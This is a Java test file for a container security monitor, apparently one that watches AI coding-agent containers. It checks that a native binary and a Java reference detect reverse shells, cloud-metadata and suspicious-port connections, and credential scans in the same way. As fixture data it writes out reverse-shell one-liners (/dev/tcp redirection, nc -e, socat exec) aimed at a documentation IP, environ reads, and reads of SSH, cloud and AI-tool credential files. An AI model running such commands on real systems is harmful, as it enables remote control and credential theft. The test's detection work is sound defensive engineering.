package coi.monitor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The native waiter's look (src/main/c/monitor-look.c, `coi-waiter --look`) against the Java reference: the same
 * recorded /proc and cgroup trees read by both, HostView + Detectors.reverseShells/connections/credentialScans on one
 * side and the binary on the other, and every threat must be the same (level, category, title, description, evidence,
 * dedup key), in the same order.
 */
class NativeLookTest {
    private static final Path WAITER = Path.of("target/coi-waiter").toAbsolutePath();
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<Integer> PORTS = List.of(4444, 5555, 1337, 31337);
    private static final String REMOTE = "198.51.100.10";

    @TempDir Path root;
    private Path proc;
    private Path cgroups;

    @BeforeEach
    void roots() {
        proc = root.resolve("proc");
        cgroups = root.resolve("cgroup");
    }

    /** One target of the TARGETS file. */
    record Target(String container, String payload, int countThreshold, List<Integer> ports, long init) {
        Target(String container) {
            this(container, "lxc.payload." + container, 200, PORTS, 0);
        }

        Target(String container, String payload, int countThreshold, List<Integer> ports) {
            this(container, payload, countThreshold, ports, 0);
        }

        String line() {
            String ports = this.ports.isEmpty() ? "-" : this.ports.stream().map(String::valueOf).collect(Collectors.joining(","));
            return String.join("\t", "target", container, payload, Long.toString(init), "0", "1", "100", "250", Integer.toString(countThreshold), "30",
                    ports, container + ".blocked", "-");
        }
    }

    /** What both sides found: the JSON lines (as trees) and the dedup keys. */
    record Found(List<String> lines, List<Threat> threats) {}

    // ------------------------------------------------------------------------------------------------ shapes

    @Test
    void interpretersWithTheirStdioOnAConnectionAreReverseShellsOverTcpTcp6AndMappedPeers() throws IOException {
        cgroup("", "coi-a", List.of(1), Map.of("user.slice", List.of(10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26)));
        process(1, "/sbin/init", "/sbin/init");
        process(10, "/usr/bin/bash", "bash", "-i");
        fd(10, 0, "socket:[9100]");
        process(11, "/usr/bin/python3.11", "python3", "-c", "import pty; pty.spawn('sh')");
        fd(11, 0, "pipe:[1]");
        fd(11, 1, "socket:[9101]");
        process(12, "/usr/bin/perl5.36", "perl", "-e", "...");
        fd(12, 2, "socket:[9102]");
        process(13, "/usr/bin/ruby3.2", "ruby");
        fd(13, 1, "socket:[9103]");
        process(14, "/usr/bin/zsh", "zsh");
        fd(14, 0, "socket:[9104]"); // loopback 127.0.0.1
        fd(14, 1, "socket:[9105]"); // ::1
        fd(14, 2, "socket:[9106]"); // remote port 0
        process(15, "/usr/bin/node", "node", "server.js");
        fd(15, 3, "socket:[9100]"); // not on stdio
        process(16, "/usr/bin/vim", "vim");
        fd(16, 0, "socket:[9100]"); // not an interpreter
        process(17, "/usr/bin/bash (deleted)", "bash");
        fd(17, 0, "socket:[9107]"); // no peer (LISTEN, unspecified)
        fd(17, 1, "socket:[9108]"); // a v4-compatible (not mapped) v6 peer
        process(18, null, "/usr/local/bin/lua5.4", "x.lua"); // no exe: argv[0]
        fd(18, 0, "socket:[9109]");
        process(19, "/usr/bin/busybox", "sh");
        fd(19, 0, "socket:[424242]"); // no such socket
        process(20, "/usr/bin/tclsh8.6", "tclsh");
        fd(20, 0, "socket:[9110]"); // unspecified peer :: with a port
        process(21, "/usr/bin/php8.2", "php", "-r", "x");
        fd(21, 0, "socket:[9111]"); // udp
        process(22, "/usr/bin/pwsh", "pwsh");
        fd(22, 2, "socket:[9112]"); // 2001:db8:0:0:1:0:0:1
        process(23, "/usr/bin/pythonx", "pythonx");
        fd(23, 0, "socket:[9100]"); // not python[0-9.]*
        process(24, "/usr/bin/dash", "dash");
        fd(24, 0, "socket:[9113]"); // 0.0.0.0 peer
        process(25, "/usr/bin/expect", "expect");
        fd(25, 1, "socket:[9114]"); // TIME_WAIT still a connection to a peer
        process(26, "/usr/bin/bash"); // read mid-exec: the new program's memory has no arguments yet
        stat(26, "bash", "S", 1);
        fd(26, 0, "socket:[9100]");
        net(1, "tcp", tcp(v4("10.147.83.75", 40512), v4(REMOTE, 4444), "01", 9100), tcp(v4("127.0.0.1", 1), v4("127.0.0.1", 2), "01", 9104),
                tcp(v4("10.0.0.2", 3), v4(REMOTE, 0), "01", 9106), tcp(v4("0.0.0.0", 22), v4("0.0.0.0", 0), "0A", 9107),
                tcp(v4("10.0.0.2", 5), v4("0.0.0.0", 9), "02", 9113), tcp(v4("10.0.0.2", 8), v4(REMOTE, 4444), "01", 9109), tcp(v4("10.0.0.2", 6), v4("203.0.113.9", 8443), "06", 9114));
        net(1, "tcp6", tcp(v6("fd42::5", 40000), v6("2001:db8::10", 9001), "01", 9101),
                tcp(v6("::ffff:192.0.2.2", 54966), v6("::ffff:203.0.113.80", 443), "01", 9102),
                tcp(v6("::ffff:10.0.0.2", 1), v6("2001:db8:0:1:0:0:0:7", 1337), "01", 9103), tcp(v6("::1", 1), v6("::1", 2), "01", 9105),
                tcp(v6("::", 5), v6("::1.2.3.4", 7), "01", 9108), tcp(v6("fd42::5", 5), v6("::", 9), "01", 9110),
                tcp(v6("fd42::5", 6), v6("2001:db8:0:0:1:0:0:1", 80), "01", 9112), tcp(v6("fd42::5", 7), v6("::ffff:169.254.169.254", 80), "01", 9115));
        net(1, "udp", udp(v4("10.0.0.2", 5353), v4("198.51.100.53", 53), "01", 9111));
        net(1, "udp6", "");
        Found found = compare(new Target("coi-a"));
        assertThat(found.threats()).extracting(Threat::title).contains("reverse shell: bash with its stdin on a connection to " + REMOTE + ":4444",
                "reverse shell: python3.11 with its stdout on a connection to 2001:db8::10:9001",
                "reverse shell: perl5.36 with its stderr on a connection to 203.0.113.80:443",
                "reverse shell: ruby3.2 with its stdout on a connection to 2001:db8:0:1::7:1337", "reverse shell: bash with its stdout on a connection to ::102:304:7",
                "reverse shell: lua5.4 with its stdin on a connection to 198.51.100.10:4444", "reverse shell: php8.2 with its stdin on a connection to 198.51.100.53:53",
                "reverse shell: pwsh with its stderr on a connection to 2001:db8::1:0:0:1:80", "connection to the cloud metadata address 169.254.169.254",
                "reverse shell: expect with its stdout on a connection to 203.0.113.9:8443");
        assertThat(found.threats()).filteredOn(t -> t.evidence().process() != null && t.evidence().process().pid() == 26).singleElement()
                .satisfies(t -> assertThat(t.evidence().process().cmdline()).as("no command line: [comm], as ps shows it").containsExactly("[bash]"));
        assertThat(found.threats()).extracting(Threat::title).noneMatch(t -> t.contains("zsh") || t.contains("vim") || t.contains("node")
                || t.contains("busybox") || t.contains("tclsh") || t.contains("pythonx") || t.contains("dash"));
    }

    @Test
    void netcatAndSocatExecOptionsAndDevTcpRedirections() throws IOException {
        cgroup("", "coi-n", List.of(1, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(30, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", REMOTE, "9001");
        process(31, "/usr/bin/ncat", "ncat", "--sh-exec", "bash", REMOTE, "9001");
        process(32, "/usr/bin/nc.openbsd", "nc", "-c", "sh");
        process(33, "/usr/bin/socat", "socat", "TCP:" + REMOTE + ":9001", "EXEC:bash,pty,stderr");
        process(34, "/usr/bin/socat", "socat", "tcp:x:1", "SyStEm:id");
        process(35, "/usr/bin/socat", "socat", "tcp:x:1", "exec:sh\n-i"); // '.' does not match a newline: no exec
        process(36, "/usr/bin/netcat", "-e", "x"); // -e as argv[0] only
        process(37, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/" + REMOTE + "/9001 0>&1");
        process(38, "/usr/bin/python3", "python3", "x > /dev/udp/1.2.3.4/53");
        process(39, "/tmp/dev/tcp/evil", "/tmp/dev/tcp/evil"); // argv[0] counts too
        process(40, "/usr/bin/bash", "bash", "-c", "cat < /dev/tcp"); // no trailing slash
        process(41, "/usr/bin/nc", "nc", "--lua-exec", "x.lua", "/dev/tcp/1/2"); // exec first (else-if)
        process(42, "/usr/bin/nc", "nc", REMOTE, "80");
        // a memfd names no program: argv[0] does (read at its exec, a command incus starts may still show memfd:liblxc)
        process(43, "/memfd:liblxc (deleted)", "bash", "-c", "sleep 300; exec 3<>/dev/tcp/127.0.0.1/9");
        process(44, "memfd:x", "/usr/bin/socat", "tcp:x:1", "exec:sh");
        Found found = compare(new Target("coi-n"));
        assertThat(found.threats()).extracting(Threat::title).containsExactly("reverse shell: nc.traditional executing a program for a connection",
                "reverse shell: ncat executing a program for a connection", "reverse shell: nc.openbsd executing a program for a connection",
                "reverse shell: socat executing a program for a connection", "reverse shell: socat executing a program for a connection",
                "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "reverse shell: python3 redirecting to /dev/tcp or /dev/udp",
                "reverse shell: evil redirecting to /dev/tcp or /dev/udp", "reverse shell: nc executing a program for a connection",
                "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "reverse shell: socat executing a program for a connection");
    }

    @Test
    void metadataAddressesAndSuspiciousPortsOutgoingListeningAndClosing() throws IOException {
        cgroup("pids/", "coi-m", List.of(1, 50, 51), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(50, "/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/");
        fd(50, 3, "socket:[9200]");
        fd(50, 4, "socket:[9201]");
        process(51, "/usr/bin/nc", "nc", "-l", "4444");
        fd(51, 3, "socket:[9204]");
        fd(51, 4, "socket:[9204]"); // the first owner is the one
        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4("169.254.169.254", 80), "01", 9200), tcp(v4("10.0.0.2", 40001), v4("169.254.169.254", 4444), "02", 9201),
                tcp(v4("10.0.0.2", 40002), v4("169.254.169.254", 80), "06", 9202), tcp(v4("10.0.0.2", 40003), v4(REMOTE, 4444), "01", 9203),
                tcp(v4("0.0.0.0", 4444), v4("0.0.0.0", 0), "0A", 9204), tcp(v4("10.0.0.2", 40004), v4(REMOTE, 4444), "06", 9205),
                tcp(v4("10.0.0.2", 40005), v4("127.0.0.1", 4444), "01", 9206), tcp(v4("10.0.0.2", 40006), v4(REMOTE, 31337), "02", 9207),
                tcp(v4("10.0.0.2", 40007), v4(REMOTE, 4445), "01", 9208), tcp(v4("10.0.0.2", 1337), v4(REMOTE, 40000), "01", 9209),
                tcp(v4("10.0.0.2", 1337), v4(REMOTE, 40000), "0A", 9210), tcp(v4("10.0.0.2", 2), v4(REMOTE, 3), "0B", 9211));
        net(1, "tcp6", tcp(v6("fd42::5", 5), v6("fd00:ec2::254", 80), "01", 9220), tcp(v6("::", 5555), v6("::", 0), "0A", 9221),
                tcp(v6("fd42::5", 6), v6("fd00:ec2:0:0:0:0:0:254", 443), "08", 9222),
                tcp(v6("::", 1337), "000000000000000000000000000000000:0000", "0A", 9223)); // 33 digits, as HostViewTest has one: Java reads 16 bytes
        net(1, "udp", udp(v4("10.0.0.2", 5000), v4(REMOTE, 4444), "01", 9230), udp(v4("0.0.0.0", 4444), v4("0.0.0.0", 0), "07", 9231),
                udp(v4("10.0.0.2", 5001), v4(REMOTE, 1337), "07", 9232));
        Found found = compare(new Target("coi-m"));
        assertThat(found.threats()).extracting(Threat::title).containsExactly("connection to the cloud metadata address 169.254.169.254",
                "connection to the cloud metadata address 169.254.169.254", "connection to suspicious port 4444 of " + REMOTE,
                "listening on suspicious port 4444", "connection to suspicious port 31337 of " + REMOTE, "listening on suspicious port 1337",
                "connection to the cloud metadata address fd00:ec2::254", "listening on suspicious port 5555",
                "connection to the cloud metadata address fd00:ec2::254", "listening on suspicious port 1337", "connection to suspicious port 4444 of " + REMOTE,
                "connection to suspicious port 1337 of " + REMOTE);
    }

    @Test
    void credentialScansEnvironSearchesToolFilesAndCredentialPaths() throws IOException {
        List<Integer> pids = List.of(1, 60, 61, 62, 63, 64, 65, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89,
                150, 151, 152, 153, 154, 155);
        cgroup("unified/", "coi-c", pids, Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(60, "/usr/bin/cat", "cat", "/proc/1/environ");
        process(61, "/usr/bin/cat", "cat", "/proc/self/environ");
        process(62, "/usr/bin/cat", "cat", "/proc/62/environ"); // its own
        process(63, "/usr/bin/less", "less");
        fd(63, 3, "/proc/5/environ");
        process(64, "/usr/bin/strings", "strings", "/proc/*/environ");
        process(65, "/usr/bin/cat", "cat", "/proc/abc/environ", "/proc/1/environ\n"); // neither matches
        process(66, "/usr/bin/grep", "grep", "-r", "TOKEN", ".");
        process(67, "/usr/bin/grep", "grep", "-i", "api_key", "/workspace");
        process(68, "/usr/bin/rg", "rg", "--token-file", "x"); // a long flag with a word counts
        process(69, "/usr/bin/grep", "grep", "-e", "/etc/secret"); // a path does not
        process(70, "/usr/bin/grep", "grep", "KEY\nx"); // a newline: no match
        process(71, "/usr/bin/find", "find", ".", "-name", "*token*"); // not a searcher
        process(72, "/usr/bin/ag", "ag", "Passw0rd");
        process(73, "/usr/bin/cat", "cat", "/home/code/.claude/.credentials.json");
        process(74, "/usr/local/bin/claude", "claude");
        fd(74, 5, "/home/code/.claude/.credentials.json");
        process(75, "/usr/bin/node", "node", "/usr/local/bin/codex", "exec");
        fd(75, 5, "/home/code/.codex/auth.json");
        process(76, "/usr/bin/python3", "python3", "steal.py");
        fd(76, 5, "/home/code/.local/share/opencode/auth.json");
        process(77, "/usr/bin/cp", "cp", "opencode/auth.json", "/tmp");
        process(78, "/usr/bin/cat", "cat", "/home/code/.claude/.credentials.json.bak", "x.claude/.credentials.json");
        process(79, "/usr/bin/cat", "cat", "/home/code/.ssh/id_rsa");
        process(80, "/usr/bin/ssh", "ssh", "host");
        fd(80, 3, "/home/code/.ssh/id_ed25519");
        process(81, "/usr/bin/git", "git", "push");
        fd(81, 3, "/home/code/.config/gh/hosts.yml");
        process(82, "/usr/bin/tar", "tar", "czf", "-", ".aws");
        process(83, "/usr/bin/cat", "cat", "/x/.sshfoo", "/x/.docker/config.jsonx", "/home/.ssh\n/x");
        process(84, "/usr/bin/cat", "cat", "/x/.docker/config.json");
        process(85, "/usr/bin/less", "less");
        fd(85, 4, "/home/code/.netrc");
        process(86, "/usr/bin/cat", "cat", "/proc/1/environ", "/home/code/.ssh/id_rsa"); // the first rule only
        process(87, "/usr/bin/rg", "rg", "-k"); // a short flag is skipped (and holds no word anyway)
        process(88, "/usr/bin/opencode", "opencode");
        fd(88, 4, "/home/code/.local/share/opencode/auth.json");
        process(89, "/usr/bin/python3", "python3", "/opt/claude", "x");
        fd(89, 4, "/home/code/.claude/.credentials.json");
        // Java's '.' stops at every line terminator: \r, U+0085, U+2028 as well as \n
        process(150, "/usr/bin/grep", "grep", "KEY\rx");
        process(151, "/usr/bin/grep", "grep", "x\u2028token");
        process(152, "/usr/bin/grep", "grep", "x\u0085token");
        process(153, "/usr/bin/grep", "grep", "\u00e9TokEn\uD83D\uDE00");
        process(154, "/usr/bin/cat", "cat", "/home/\u2029/.ssh/id", "/home/\r/.aws");
        process(155, "/usr/bin/socat", "socat", "-", "exec:\u0085");
        Found found = compare(new Target("coi-c"));
        assertThat(found.threats()).extracting(Threat::title).containsExactly("reading other processes' environment",
                "reading other processes' environment", "reading other processes' environment", "searching for credentials with grep",
                "searching for credentials with grep", "searching for credentials with rg", "searching for credentials with ag",
                "reading claude's credential file by cat", "reading opencode's credential file by python3", "reading opencode's credential file by cp",
                "reading credential files by cat", "reading credential files by tar", "reading credential files by cat", "reading credential files by less",
                "reading other processes' environment", "searching for credentials with grep");
    }

    /** Command lines and link targets with bytes that are not UTF-8 (decoded as Java decodes them), quotes, backslashes, control characters. */
    @Test
    void weirdBytesInCommandLinesAndLinkTargetsComeOutAsJavaReadsThem() throws IOException {
        List<Integer> pids = List.of(1, 90, 91, 92, 93, 94, 95);
        cgroup("", "coi-w", pids, Map.of());
        process(1, "/sbin/init", "/sbin/init");
        byte[][] odd = {{(byte) 0xff, 'a'}, {(byte) 0xe0, (byte) 0x80, (byte) 0x80}, {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
                {(byte) 0xf0, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                {(byte) 0xf5, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xc0, (byte) 0xaf}, {(byte) 0x80}, {'x', (byte) 0xe2, (byte) 0x82},
                {(byte) 0xf0, (byte) 0x9f, (byte) 0x98}, {(byte) 0xe2, (byte) 0x82, 'A'}, {(byte) 0xf0, (byte) 0x9f, 'A'}, {(byte) 0xf0, (byte) 0x9f, (byte) 0x98, (byte) 0x80},
                {(byte) 0xe2, (byte) 0x80, (byte) 0xa8}, {(byte) 0xc2, (byte) 0x85}, {(byte) 0xc3}, {(byte) 0xe0, (byte) 0xa0}, {(byte) 0xf0, (byte) 0x90, (byte) 0x80},
                {(byte) 0xf4, (byte) 0x8f, (byte) 0xbf, (byte) 0xbf}, {(byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                {(byte) 0xe1, (byte) 0x80, (byte) 0x41, (byte) 0x80}, {(byte) 0xf1, (byte) 0x80, (byte) 0x80, (byte) 0x41}};
        List<byte[]> args = new ArrayList<>(List.of(b("bash"), b("-c"), b("exec 3<>/dev/tcp/1.2.3.4/80")));
        args.addAll(Arrays.asList(odd));
        args.addAll(List.of(b("quote\" back\\slash"), b("new\nline\ttab\r\u0001\u001f\u007f"), b("emoji \uD83D\uDE00 and \u00e9 \u2028"), b(""), b("last")));
        processBytes(90, "/usr/bin/bash", args, null);
        processBytes(91, "/usr/bin/nc", List.of(b("nc"), b("-e"), new byte[] {'/', 'b', (byte) 0xff, 'n', '/', 's', 'h'}, b("\u00ff")), null);
        // a program whose file name is odd: in the title, and so in the dedup key
        processBytes(92, null, List.of(b("socat"), b("x")), new byte[] {'/', 't', (byte) 0xff, '/', 'w', '"', '\\', 'e', (byte) 0xc3, 'i', 'r', 'd', '\n', 1, 'x', (byte) 0xe2, (byte) 0x82});
        fd(92, 3, "/home/code/.ssh/id_rsa");
        // a link target that is odd but names a credential path
        process(93, "/usr/bin/cat", "cat");
        rawLink(proc.resolve("93/fd/3"), new byte[] {'/', 'h', (byte) 0xff, '/', '.', 's', 's', 'h', '/', 'k', (byte) 0xfe});
        // an odd link target with a line terminator (U+2028): '.' does not match it
        process(94, "/usr/bin/cat", "cat");
        rawLink(proc.resolve("94/fd/3"), new byte[] {'/', (byte) 0xe2, (byte) 0x80, (byte) 0xa8, '/', '.', 's', 's', 'h'});
        // empty arguments are dropped, argv[0] of a process without exe names the program
        processBytes(95, null, List.of(b("/usr/bin/p\u00e9rl"), b(""), b(""), b("-e"), b("print 1 > /dev/udp/x/1")), null);
        Found found = compare(new Target("coi-w"));
        assertThat(found.threats()).extracting(Threat::title).containsExactly("reverse shell: bash redirecting to /dev/tcp or /dev/udp",
                "reverse shell: nc executing a program for a connection", "reverse shell: p\u00e9rl redirecting to /dev/tcp or /dev/udp",
                "reading credential files by w\"\\e\ufffdird\n\u0001x\ufffd", "reading credential files by cat");
        assertThat(found.threats().getFirst().evidence().process().cmdline()).contains("\ufffda", "\ufffd\ufffd\ufffd", "\ufffd", "\ufffdA", "x\ufffd");
    }

    @Test
    void processesListedButGoneOrHalfReadAreLeftOutAsHostViewLeavesThem() throws IOException {
        // the first pid is gone: no uid map (host uids); the sockets are read through the next pid that is there
        cgroup("", "coi-g", List.of(999, 1, 100, 101, 102, 103, 104, 105, 106), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4(REMOTE, 4444), "01", 9300));
        process(100, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/a/1");
        fd(100, 0, "socket:[9300]");
        process(101, "/usr/bin/bash", "bash", "-c", "y >/dev/tcp/a/1");
        Files.delete(proc.resolve("101/io")); // gone mid-read
        process(102, "/usr/bin/bash", "bash", "-c", "z >/dev/tcp/a/1");
        Files.delete(proc.resolve("102/exe"));
        Files.writeString(proc.resolve("102/exe"), "not a link"); // an exe that cannot be read as a link: skipped
        process(103, null, "bash", "-c", "w >/dev/tcp/a/1"); // no exe (a kernel thread's or a zombie's): exe null
        process(104, "/usr/bin/bash", "bash", "-c", "v >/dev/tcp/a/1");
        deleteTree(proc.resolve("104/fd"));
        process(105, "/usr/bin/bash", "bash", "-c", "u >/dev/tcp/a/1");
        Files.writeString(proc.resolve("105/stat"), "105 no parenthesis\n");
        process(106, "/usr/bin/bash", "bash", "-c", "t >/dev/tcp/a/1");
        Files.delete(proc.resolve("106/cwd"));
        Found found = compare(new Target("coi-g"));
        // pid 1's tables: 100's stdin is on a connection to a suspicious port
        assertThat(found.threats()).extracting(Threat::title).containsExactly("reverse shell: bash with its stdin on a connection to "
                + REMOTE + ":4444", "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "reverse shell: bash redirecting to /dev/tcp or /dev/udp",
                "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "connection to suspicious port 4444 of " + REMOTE);
        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactly(100, 100, 103, 106, 100);
        assertThat(found.threats().getFirst().evidence().process().uid()).as("unmapped").isEqualTo(1001000);
        assertThat(found.threats().get(2).evidence().process().exe()).isNull();
    }

    @Test
    void uidsAreMappedThroughTheFirstProcessesMap() throws IOException {
        cgroup("", "coi-u", List.of(1, 110, 111, 112), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        Files.writeString(proc.resolve("1/uid_map"), "         0    1000000      65536\n     65536     100000 10\n  garbage\n");
        process(110, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
        process(111, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/b/1");
        Files.writeString(proc.resolve("111/status"), "Name:\tbash\nUid:\t100005\t1\t1\t1\nGid:\t0\n");
        process(112, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/c/1");
        Files.writeString(proc.resolve("112/status"), "Name:\tbash\nUid:\t7\t7\t7\t7\n");
        Found found = compare(new Target("coi-u"));
        assertThat(found.threats()).extracting(t -> t.evidence().process().uid()).containsExactly(1000, 65541, 7);
    }

    /** v1 pids/, v1-hybrid unified/ and plain v2, with nested subgroups, duplicates, and a subgroup without cgroup.procs (not walked). */
    @Test
    void theCgroupIsFoundUnderEachLayoutAndItsSubgroupsWalked() throws IOException {
        for (String layout : List.of("pids/", "", "unified/")) {
            String name = "coi-l" + layout.length();
            cgroup(layout, name, List.of(), Map.of("init.scope", List.of(1), "user.slice", List.of(120),
                    "user.slice/user-1000.slice", List.of(), "user.slice/user-1000.slice/session-1.scope", List.of(121, 120), "system.slice", List.of()));
            Path top = cgroups.resolve(layout + "lxc.payload." + name);
            Files.createDirectories(top.resolve("noprocs/deeper"));
            Files.writeString(top.resolve("noprocs/deeper/cgroup.procs"), "122\n");
            Files.writeString(top.resolve("cgroup.max.depth"), "max\n");
        }
        process(1, "/sbin/init", "/sbin/init");
        process(120, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
        process(121, "/usr/bin/nc", "nc", "-e", "sh");
        process(122, "/usr/bin/nc", "nc", "-c", "sh");
        // pids/ before the plain v2 folder when both exist
        write(cgroups.resolve("lxc.payload.coi-l5/cgroup.procs"), "122\n");
        Found found = compare(new Target("coi-l5"), new Target("coi-l0"), new Target("coi-l8"));
        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactlyInAnyOrder(120, 121, 120, 121, 120, 121);
    }

    @Test
    void overTheProcessCountThresholdALookIsBareAndItsDetailsRaiseNothing() throws IOException {
        cgroup("", "coi-b", List.of(1, 130, 131), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(130, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
        fd(130, 0, "socket:[9400]");
        process(131, "/usr/bin/cat", "cat", "/proc/1/environ");
        net(1, "tcp", tcp(v4("10.0.0.2", 1), v4(REMOTE, 4444), "01", 9400));
        Found bare = compare(new Target("coi-b", "lxc.payload.coi-b", 2, PORTS));
        assertThat(bare.lines()).isEmpty();
        Found detailed = compare(new Target("coi-b", "lxc.payload.coi-b", 3, PORTS));
        assertThat(detailed.threats()).hasSize(4);
        // execs still count in a bare look: one it lists is not added again, one it does not list is
        Files.writeString(proc.resolve("130/cgroup"), "0::/lxc.payload.coi-b\n");
        process(132, "/usr/bin/grep", "grep", "-r", "SECRET");
        Files.writeString(proc.resolve("132/cgroup"), "0::/lxc.payload.coi-b/user.slice\n");
        Found execs = compare(List.of(130, 132), new Target("coi-b", "lxc.payload.coi-b", 2, PORTS));
        assertThat(execs.threats()).extracting(Threat::title).containsExactly("searching for credentials with grep");
    }

    /** Processes read at their exec (Monitor.exec) that the look did not find are seen as if they were still there. */
    @Test
    void execsTheLookDidNotFindAreAddedAsWithExecsAddsThem() throws IOException {
        cgroup("", "coi-e", List.of(1, 140), Map.of());
        cgroup("", "coi-f", List.of(2), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(2, "/sbin/init", "/sbin/init");
        process(140, "/usr/bin/cat", "cat", "/proc/1/environ");
        Files.writeString(proc.resolve("140/cgroup"), "0::/lxc.payload.coi-e/user.slice\n");
        process(141, "/usr/bin/cat", "cat", "/proc/2/environ"); // ended before the look
        Files.writeString(proc.resolve("141/cgroup"), "12:pids:/lxc.payload.coi-e/user.slice\n0::/lxc.payload.coi-e/user.slice\n");
        process(142, "/usr/bin/grep", "grep", "TOKEN"); // another container's
        Files.writeString(proc.resolve("142/cgroup"), "0::/lxc.payload.coi-f\n");
        process(143, "/usr/bin/grep", "grep", "SECRET"); // a host process
        Files.writeString(proc.resolve("143/cgroup"), "0::/user.slice\n");
        process(144, "/usr/bin/grep", "grep", "KEY"); // exiting: no command line
        Files.writeString(proc.resolve("144/cmdline"), "");
        Files.writeString(proc.resolve("144/cgroup"), "0::/lxc.payload.coi-e\n");
        Found found = compare(List.of(140, 141, 142, 143, 144, 999, 141), new Target("coi-e"), new Target("coi-f"));
        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactly(140, 141, 142);
        assertThat(found.threats().get(1).evidence().process().uid()).isEqualTo(1000);
    }

    @Test
    void aContainerThatCannotBeObservedFailsWithHostViewsMessage() throws IOException {
        writeTargets(new Target("coi-gone"));
        HostView view = new HostView(proc, cgroups);
        assertThatThrownBy(() -> view.cgroupOf("lxc.payload.coi-gone")).isInstanceOf(ObservationException.class);
        String missing = observationMessage(() -> view.cgroupOf("lxc.payload.coi-gone"));
        Run run = run(List.of());
        assertThat(run.status()).isEqualTo(1);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).isEqualTo(missing + "\n");

        cgroup("", "coi-empty", List.of(), Map.of("init.scope", List.of()));
        writeTargets(new Target("coi-empty"));
        String empty = observationMessage(() -> view.pids("coi-empty", view.cgroupOf("lxc.payload.coi-empty")));
        run = run(List.of());
        assertThat(run.status()).isEqualTo(1);
        assertThat(run.err()).isEqualTo(empty + "\n").contains("has no process");
    }

    @Test
    void aTargetsFileMustBeRight() throws IOException {
        cgroup("", "coi-t", List.of(1), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        Path file = root.resolve("targets");
        for (String bad : List.of("coi-monitor-targets\t2\n", "coi-monitor-target\t1\n", "coi-monitor-targets\t1\nwhat\tx\n",
                "coi-monitor-targets\t1\n" + new Target("coi t", "lxc.payload.coi-t", 10, PORTS).line() + "\n",
                "coi-monitor-targets\t1\n" + new Target("coi-t").line().replace("\t-", "") + "\n", "")) {
            Files.writeString(file, bad);
            assertThat(run(List.of()).status()).as(bad).isEqualTo(2);
        }
        Files.writeString(file, "coi-monitor-targets\t1\nnft\tinet\tcoi\n" + new Target("coi-t").line() + "\nseen\tcoi-t\t1700000000000\t"
                + hex("reverse_shell|x|y") + "\n");
        Run run = run(List.of());
        assertThat(run.status()).isZero();
        assertThat(run.err()).isEmpty();
    }

    /**
     * Many random containers drawn from the shapes the detectors care about (programs, arguments, descriptor targets,
     * sockets, odd bytes, half-read processes, layouts, thresholds, execs): both sides must agree on every one.
     */
    @Test
    void randomContainersAgreeWithTheJavaReference() throws IOException {
        String[] exes = {"/usr/bin/bash", "/bin/sh", "/usr/bin/python3.12", "/usr/bin/perl", "/usr/bin/node", "/usr/bin/nc", "/usr/bin/socat",
                "/usr/bin/ncat", "/usr/bin/grep", "/usr/bin/rg", "/usr/bin/git-grep", "/usr/bin/cat", "/usr/bin/ssh", "/usr/bin/gh", "/usr/local/bin/claude",
                "/usr/local/bin/codex", "/usr/bin/opencode", "/usr/bin/vim", "/usr/bin/bash (deleted)", "/tmp/x/\u00e9\"q\\", null, null, "/usr/bin/luajit",
                "/usr/bin/php", "/usr/bin/busybox", "/usr/bin/egrep", "/usr/bin/docker", "/usr/bin/tclsh8"};
        String[] tokens = {"-e", "-c", "-i", "--exec", "--sh-exec", "-r", "-k", "--key", "TOKEN", "api_key", "Secret", "passwd", "PassWord",
                "/etc/passwd", "/proc/1/environ", "/proc/self/environ", "/proc/*/environ", "/proc/12/environ", "/proc/x/environ",
